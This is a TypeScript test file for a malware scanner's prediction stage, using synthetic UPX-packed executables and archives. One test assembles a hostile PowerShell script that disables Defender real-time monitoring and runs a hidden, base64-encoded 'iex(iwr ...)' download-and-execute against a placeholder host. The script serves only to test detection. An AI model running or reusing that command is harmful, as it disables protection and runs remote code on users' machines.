import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { test } from 'node:test';
import { peOf } from '../../../test/support/pe.ts';
import { scanLab } from '../../../test/support/scan.ts';
import { scopeOf } from '../../../test/support/scope.ts';
import { zipOf } from '../../../test/support/archives.ts';
import { loadConfig, type PredictionConfig } from '../config/index.ts';

const CONFIG: PredictionConfig = loadConfig({
  flags: {},
  environment: {},
  checkout: undefined,
  cores: 1,
}).prediction;
/** As packers leave programs: no protections, flags of old compilers, content without a pattern. */
const PACKED = peOf({
  characteristics: 0x818f,
  dllCharacteristics: 0,
  sections: [
    { name: 'UPX0', bytes: randomBytes(300_000), flags: 0xe000_0020 },
    { name: 'UPX1', bytes: randomBytes(90_000), flags: 0xe000_0020 },
  ],
});

test('what the model thinks is said and decides nothing, until the operator lets it', async (t) => {
  const scope = scopeOf(t);
  const monitor = await (await scanLab(scope, undefined, { prediction: CONFIG })).scan(PACKED, 'a.exe');
  const [seen] = monitor.predictions ?? [];
  assert.ok(seen !== undefined && seen.verdict !== 'clean' && seen.score >= 50, JSON.stringify(seen));
  assert.ok(seen.reasons.includes('is packed with UPX'));
  assert.ok(monitor.findings.every(({ stage }) => stage !== 'prediction'));
  const lab = await scanLab(scope, undefined, { prediction: { ...CONFIG, files: 'block' } });
  const block = await lab.scan(PACKED, 'a.exe');
  assert.ok(block.findings.some(({ stage, source }) => stage === 'prediction' && source === seen.model));
  assert.ok(block.verdict === 'suspicious' || block.verdict === 'malicious');
  assert.equal([...lab.counts].filter(([name]) => name.startsWith('scan_predictions_total')).length, 1);
  const off = await (
    await scanLab(scope, undefined, { prediction: { ...CONFIG, files: 'off' } })
  ).scan(PACKED);
  assert.equal(off.predictions, undefined);
});

test('a program in an archive is judged in its place, and thresholds are the operator’s', async (t) => {
  const lab = await scanLab(scopeOf(t), undefined, {
    prediction: { ...CONFIG, files: 'block', suspiciousFrom: 1, maliciousFrom: 2 },
  });
  const verdict = await lab.scan(zipOf([{ name: 'in/a.exe', bytes: PACKED }]), 'a.zip');
  assert.equal(verdict.predictions?.[0]?.path, 'in/a.exe');
  assert.deepEqual([verdict.predictions[0].verdict, verdict.verdict], ['malicious', 'malicious']);
});

test('rules stand in where there is no model', async (t) => {
  const lab = await scanLab(scopeOf(t), undefined, { prediction: CONFIG });
  const command = Buffer.from(['iex', '(iwr http://a.example/x)'].join(''), 'utf16le').toString('base64');
  // Put together here so that this file is none of those.
  const words = ['Set-MpPreference -Disable', 'RealtimeMonitoring $true\npower', 'shell -w hidden -enc '];
  const script = `${words.join('')}${command}\n`;
  const { predictions } = await lab.scan(script, 'x.ps1');
  assert.equal(predictions?.[0]?.model, 'rules');
  assert.equal(predictions[0].verdict, 'suspicious');
  assert.deepEqual(predictions[0].reasons[0], 'runs PowerShell with an encoded command');
  assert.equal((await lab.scan('a plain text that says nothing\n', 'a.txt')).predictions, undefined);
});
